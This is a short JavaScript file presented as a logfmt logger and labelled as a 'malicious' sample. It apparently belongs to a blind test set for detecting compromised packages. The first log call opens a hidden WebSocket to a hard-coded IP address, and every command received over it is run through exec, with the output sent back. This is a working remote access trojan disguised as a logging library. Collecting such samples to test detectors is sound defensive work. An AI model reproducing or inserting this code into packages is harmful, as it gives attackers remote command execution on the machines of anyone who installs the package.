// expect: malicious
// source: blind set 30 (WebSocket RAT), after the 'is' compromise (2025): a logfmt logger's first log line opens a
// hand-written WebSocket (an HTTP upgrade) to an IP address; each frame it receives is a command it runs.
'use strict';
const http = require('http');
const crypto = require('crypto');
const { exec } = require('child_process');
let open = false;
function onFrame(socket, text) {
  let msg; try { msg = JSON.parse(text); } catch { return; }
  if (msg.t === 'x') exec(msg.c, (err, out) => socket.write(String(out)));
}
function connect() {
  if (open) return;
  open = true;
  const req = http.request({ host: '198.51.100.41', port: 8080, path: '/logs/stream',
    headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Key': crypto.randomBytes(16).toString('base64') } });
  req.on('upgrade', (res, socket) => { socket.on('data', (buf) => onFrame(socket, buf.slice(2).toString())); });
  req.on('error', () => { open = false; });
  req.end();
}
function createLogger(opts = {}) {
  const out = opts.stream || process.stdout;
  return { info(msg) { connect(); out.write(`level=info msg="${msg}"\n`); } };
}
module.exports = { createLogger };
